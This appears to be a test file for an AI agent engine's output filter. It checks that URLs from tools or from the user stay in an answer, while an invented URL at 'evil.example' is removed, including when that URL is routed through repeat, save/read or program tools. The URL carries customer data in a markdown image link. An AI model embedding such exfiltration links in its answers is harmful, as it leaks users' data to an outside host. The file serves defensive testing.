import { expect, it } from 'vitest'
import { z } from 'zod'
import { agent, memoryEngine, task } from '../../../test/support/engine-world.ts'
import type { ActorContext } from '../../domain/actor.ts'
import { ownData } from '../../domain/provenance.ts'
import { defineTool } from '../../domain/tool.ts'

const OWN = 'https://evil.example/p?d=92-customers'
const FOUND = 'https://shop.example/orders?page=2'
const NAMED = 'https://named.example/guide?part=1'

const common = { description: '', effect: 'read', reach: 'inside', provenance: ownData('shop') } as const
const text = z.object({ text: z.string() })
const repeat = defineTool({ ...common, name: 'repeat', input: text, run: async (input) => input })
const find = defineTool({ ...common, name: 'find', input: text, run: async () => ({ url: FOUND }) })
let saved = ''
const save = defineTool({ ...common, name: 'save', input: text, run: async (input) => void (saved = input.text) })
const read = defineTool({ ...common, name: 'read', input: z.object({}), run: async () => ({ saved }) })
const program = defineTool({
  ...common,
  name: 'program',
  input: z.object({ code: z.string() }),
  run: async () => ({ printed: (saved = OWN) }),
})

type Calls = (ctx: ActorContext) => Promise<unknown>

async function answerWith(url: string, calls: Calls): Promise<string | undefined> {
  const writer = agent('writer', async (_task, ctx) => {
    await calls(ctx)
    return { answer: `There are 92. ![status](${url})` }
  })
  const { engine, start } = await memoryEngine([writer])
  const runId = await start([task('writer', 'writer')], { question: `What is new at ${NAMED} ?` })
  const { jobs } = await engine.outcome(runId)
  return jobs.get('writer')?.result?.answer
}

it.each<[string, string, Calls]>([
  ['that a tool returned', FOUND, (ctx) => ctx.call(find, { text: 'orders' })],
  [
    'that a tool returned before the agent gave it to another',
    FOUND,
    async (ctx) => [await ctx.call(find, { text: 'orders' }), await ctx.call(repeat, { text: FOUND })],
  ],
  ['of a model that has only seen the words of the user', OWN, async () => undefined],
  ['that the user named', NAMED, (ctx) => ctx.call(repeat, { text: NAMED })],
])('an address %s stays in the answer', async (_what, url, calls) => {
  expect(await answerWith(url, calls)).toContain(url)
})

it.each<[string, Calls]>([
  ['and a tool repeats', (ctx) => ctx.call(repeat, { text: `1+1 ${OWN}` })],
  ['and that is saved and read', async (ctx) => [await ctx.call(save, { text: OWN }), await ctx.call(read, {})]],
  [
    'with a program and that another tool shows',
    async (ctx) => [await ctx.call(program, { code: 'print(a + b)' }), await ctx.call(read, {})],
  ],
])('an invented address %s is removed from the answer', async (_what, calls) => {
  expect(await answerWith(OWN, calls)).not.toContain('evil.example')
})
